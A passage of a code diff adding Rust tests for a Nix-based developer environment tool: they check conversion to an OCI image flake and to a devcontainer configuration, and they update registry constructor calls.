+        dev_env.runtime_inputs.insert("libGL".to_string());
+        dev_env
+            .environment_variables
+            .insert("HELLO".to_string(), "WORLD".to_string());
+
+        let flake = dev_env.to_oci_flake("riff-test", None);
+        assert!(!flake.contains("created"));
+        assert!(flake.contains("devShells"));
+        assert!(flake.contains("dockerTools.buildLayeredImage"));
+        assert!(flake.contains(r#"name = "riff-test";"#));
+        assert!(flake.contains("openssl"));
+        assert!(flake.contains(r#""HELLO=WORLD""#));
+        assert!(flake.contains(r#""LD_LIBRARY_PATH=${lib.getLib libGL}/lib""#));
+
+        let flake = dev_env.to_oci_flake("riff-test", Some("2022-09-01T12:00:00Z"));
+        assert!(
+            flake.contains("tag = \"latest\";\n            created = \"2022-09-01T12:00:00Z\";\n")
+        );
+        Ok(())
+    }
+
+    #[tokio::test]
+    async fn dev_env_to_devcontainer() -> eyre::Result<()> {
+        let cache_dir = TempDir::new()?;
+        std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
+        let registry = DependencyRegistry::new(true, None).await?;
+        let mut dev_env = DevEnvironment::new(&registry);
+        dev_env.build_inputs.insert("openssl".to_string());
+        dev_env
+            .environment_variables
+            .insert("HELLO".to_string(), "WORLD".to_string());
+        dev_env
+            .environment_variables
+            .insert("CC".to_string(), "${stdenv.cc}/bin/cc".to_string());
+
+        let devcontainer = dev_env.to_devcontainer("riff-test");
+        assert_eq!(devcontainer["name"], "riff-test");
+        assert_eq!(devcontainer["containerEnv"]["HELLO"], "WORLD");
+        assert!(devcontainer["containerEnv"].get("CC").is_none());
+        assert!(!devcontainer["containerEnv"].to_string().contains("${"));
+        assert!(devcontainer["features"]
+            .get("ghcr.io/devcontainers/features/nix:1")
+            .is_some());
+        assert!(devcontainer["postCreateCommand"]
+            .as_str()
+            .unwrap_or_default()
+            .contains("path:.devcontainer"));
         Ok(())
     }
 
@@ -293,7 +1813,7 @@ HI = "BYE"
         )
         .await?;
 
-        let registry = DependencyRegistry::new(true).await?;
+        let registry = DependencyRegistry::new(true, None).await?;
         let mut dev_env = DevEnvironment::new(&registry);
         let detect = dev_env.detect(temp_dir.path()).await;
         assert!(detect.is_ok(), "{detect:?}");
@@ -312,7 +1832,7 @@ HI = "BYE"
         let cache_dir = TempDir::new()?;
         std::env::set_var("XDG_CACHE_HOME", cache_dir.path());
         let temp_dir = TempDir::new()?;
-        let registry = DependencyRegistry::new(true).await?;
+        let registry = DependencyRegistry::new(true, None).await?;
         let mut dev_env = DevEnvironment::new(&registry);
         let detect = dev_env.detect(temp_dir.path()).await;
         assert!(detect.is_err());